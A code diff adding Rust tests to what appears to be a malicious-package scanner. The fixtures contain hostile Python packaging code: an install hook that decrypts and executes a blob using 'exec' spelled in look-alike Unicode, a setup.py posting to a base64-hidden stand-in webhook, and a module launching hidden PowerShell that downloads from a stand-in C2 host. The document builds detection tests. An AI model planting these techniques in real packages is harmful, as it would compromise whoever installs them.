@@ -599,3 +599,56 @@ fn helper_that_saves_a_download_then_unpacks_it_is_not_a_download_run() {
     ]);
     assert!(!rules(&verdict).contains(&"download-run"), "{verdict:#?}");
 }
+
+#[test]
+fn exec_written_in_look_alike_letters_is_still_exec() {
+    // Python reads identifiers in NFKC form: `ℯ𝓍ℯ𝒸` is `exec`. Reconstruction of an
+    // install-command override that decrypts an embedded blob and runs it that way.
+    let setup = "from setuptools import setup\nfrom setuptools.command.install import install\n\
+        from Crypto.Cipher import AES\n\
+        class Post(install):\n    def run(self):\n        install.run(self)\n        \
+        cipher = AES.new(b'0123456789abcdef', AES.MODE_GCM, nonce=b'01234567')\n        \
+        plaintext = cipher.decrypt_and_verify(b'\\x01\\x02', b'\\x03')\n        \
+        \u{212f}\u{1d4cd}\u{212f}\u{1d4b8}(plaintext)\n\
+        setup(name='fixture', version='1.0', cmdclass={'install': Post})\n";
+    let verdict = assert_level(&[PKG_INFO, ("setup.py", setup)], VerdictLevel::Malicious);
+    assert!(rules(&verdict).contains(&"exec-decoded"), "{verdict:#?}");
+    assert!(rules(&verdict).contains(&"obfuscation"), "{verdict:#?}");
+}
+
+#[test]
+fn network_call_to_a_decoded_address_is_a_hidden_endpoint() {
+    let verdict = setup_py(
+        "import base64, requests\nfrom setuptools import setup\n\
+         hook = base64.b64decode('aHR0cHM6Ly9ob29rcy5leGFtcGxlLmludmFsaWQveA==').decode()\n\
+         requests.post(hook, json={'content': 'installed'})\n\
+         setup(name='fixture', version='1.0')\n",
+    );
+    assert!(rules(&verdict).contains(&"hidden-endpoint"), "{verdict:#?}");
+    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
+}
+
+#[test]
+fn decoded_script_written_then_started_is_malicious() {
+    // A PowerShell script kept in base64, written to a temporary file and started hidden.
+    let script = b64(
+        "Start-Process calc.exe -WindowStyle Hidden; Invoke-WebRequest https://c2.example.invalid/a -OutFile a.exe",
+    );
+    let module = format!(
+        "import subprocess, base64, os\n\
+         def lotus():\n    \
+             c = base64.b64decode('{script}').decode()\n    \
+             f = os.path.join(os.environ['TEMP'], 't.ps1')\n    \
+             open(f, 'w').write(c)\n    \
+             subprocess.Popen(['powershell', '-W', 'Hidden', '-F', f])\n"
+    );
+    let verdict = assert_level(
+        &[
+            PKG_INFO,
+            ("fixture/__init__.py", "\n"),
+            ("fixture/run.py", &module),
+        ],
+        VerdictLevel::Malicious,
+    );
+    assert!(rules(&verdict).contains(&"exec-decoded"), "{verdict:#?}");
+}
